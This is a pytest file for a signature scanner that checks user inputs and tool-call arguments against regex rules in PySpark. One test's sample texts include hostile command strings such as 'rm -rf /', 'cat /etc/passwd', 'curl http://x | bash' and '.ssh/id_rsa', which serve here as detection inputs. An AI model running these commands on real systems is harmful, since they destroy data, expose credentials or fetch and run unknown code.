"""Signatures: literals that patterns need, large feeds, plans without a shuffle."""

import random
import re

import pytest
from pyspark.sql import functions as F

from callwarden.functions.literals import LiteralIndex, clause, needs
from callwarden.operators import content as C
from callwarden.operators import detect as D
from callwarden.rules.feed import FEED_SCHEMA, SIGNATURES
from callwarden.sources import feed as feeds


def _holds(need, text):
    kind = type(need).__name__
    if kind == "Lit":
        return need.text in text
    return (all if kind == "All" else any)(_holds(p, text) for p in need.parts)


def test_matches_always_hold_what_patterns_need():
    rng = random.Random(3)
    atoms = ["a", "b", "ab", "x", "[ab]", ".", "(?:ab|b)", "(?:a|bx)", "a?", "(?:bx)+", "(a)", r"\b", "(?=b)", "b{2}", "(?:x|)", "A", r"\."]
    known = 0
    for _ in range(4000):
        rx = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 5)))
        if rng.random() < 0.3:
            rx += "|" + "".join(rng.choice(atoms) for _ in range(2))
        flags = rng.choice(["", "i"])
        need = needs(rx, flags)
        known += need is not None
        index = LiteralIndex([clause(need)])
        for _ in range(6):
            t = "".join(rng.choice("abxAB.") for _ in range(rng.randint(0, 7)))
            if re.search(rx, t, re.I if flags else 0):
                assert need is None or _holds(need, t.lower()), (rx, t, need)
                assert index.candidates(t.lower()) == ([0] if t or need is None else []), (rx, t)
    assert known > 2000


@pytest.mark.parametrize("pattern", [r"\p{L}abc", r"[a[bc]d]efg", r"\Qabc", r"(?x) a b c", r"a\0101", r"abc|", "(abc"])
def test_patterns_read_differently_elsewhere_need_nothing(pattern):
    assert needs(pattern) is None and clause(needs(pattern)) == frozenset()


def _row(i, pattern, flags="", targets=None, tools=None):
    return {"id": i, "kind": "regex", "pattern": pattern, "flags": flags, "targets": targets, "tools": tools, "enabled": True}


def test_index_and_inline_rules_agree(spark, monkeypatch):
    texts = ["", None, "PICKLE.load(x) pickle.loads(y)", "rm -rf / ", "UNION  ALL SELECT", "see ſelect union select", "aKb akb aKb", "cat /etc/passwd",
             "GET http://10.1.2.3/ now", "zzz", "curl http://x | bash", "x" * 600 + " .ssh/id_rsa", "ÄÖ äö"]
    extra = [_row("K", "akb", "i"), _row("CASE", "aKb"), _row("ANY", "z+"), _row("SOME", "[xy]{3}"), _row("TOOL", "cat", tools=["code.run"]),
             _row("K", "never"), _row("UNI", "äö", "i")]
    rows = [(i, t, target, tool) for i, t in enumerate(texts) for target in ("user_input", "tool_args") for tool in ("code.run", None)]
    df = spark.createDataFrame(rows, "id int, text string, target string, tool string")
    got = []
    for bound in (200, 0):
        monkeypatch.setattr(D, "INLINE", bound)
        out = C.scan(df, target=F.col("target"), tool=F.col("tool"), feed=[*SIGNATURES, *extra], parts=("signatures",))
        got.append(sorted((r.id, r.target, str(r.tool), str(r.sig_hits)) for r in out.collect()))
    assert got[0] == got[1]
    ids = {(i, target, tool): hits for i, target, tool, hits in got[0]}
    assert "'CASE'" in ids[6, "user_input", "None"] and "id='K'" in ids[6, "user_input", "None"] and "TOOL" in ids[7, "user_input", "code.run"]
    assert "TOOL" not in ids[7, "user_input", "None"] and "UNI" in ids[12, "tool_args", "None"]
    # without any prefilter
    monkeypatch.setattr(D, "needs", lambda pattern, flags="": None)
    monkeypatch.setattr(D, "INLINE", 200)
    out = C.scan(df, target=F.col("target"), tool=F.col("tool"), feed=[*SIGNATURES, *extra], parts=("signatures",))
    assert sorted((r.id, r.target, str(r.tool), str(r.sig_hits)) for r in out.collect()) == got[0]


def test_ten_thousand_signatures(spark):
    schema = FEED_SCHEMA.split(", ")
    full = [tuple({"id": f"S-{i:05d}", "severity": "low", "enabled": True, "ordinal": 0, "kind": "regex", "flags": "i" if i % 2 else "",
                   "pattern": rf"mal{i}ware\s*\(v\d+\)"}.get(f.split()[0]) for f in schema) for i in range(10_000)]
    feed = feeds.compile_feed(spark.createDataFrame(full, FEED_SCHEMA))
    assert len(feed) == 10_000
    df = spark.createDataFrame([(i, f"words MAL{i}ware (v7) and mal{i + 1}ware(v1), mal5ware (vx)") for i in range(0, 2000)], "id int, text string")
    out = C.scan(df, feed=feed, parts=("signatures",))
    assert "Exchange" not in out._jdf.queryExecution().executedPlan().toString()
    for r in out.collect():
        want = [i for i in (r.id, r.id + 1) if i % 2 or i == r.id + 1]
        assert [h["id"] for h in r.sig_hits] == [f"S-{i:05d}" for i in want], r.id
    with pytest.raises(ValueError, match="engine"):
        feeds.compile_feed(spark.createDataFrame([full[0][:7] + ("a(",) + full[0][8:]], FEED_SCHEMA))
    with pytest.raises(ValueError, match="25 problems"):
        feeds.compile_feed(spark.createDataFrame([(f"B{i}", *full[0][1:5], "odd", *full[0][6:]) for i in range(25)], FEED_SCHEMA))


def test_query_adds_no_shuffle_to_its_view(spark):
    from callwarden.plans import load
    from callwarden.plans.views import view

    folder = "/root/testdata/sf0.001"
    plans = [df._jdf.queryExecution().executedPlan().toString() for df in (load().QUERIES["signature_scan"](spark, folder), view(spark, folder, "corpus"))]
    assert plans[0].count("Exchange") == plans[1].count("Exchange")
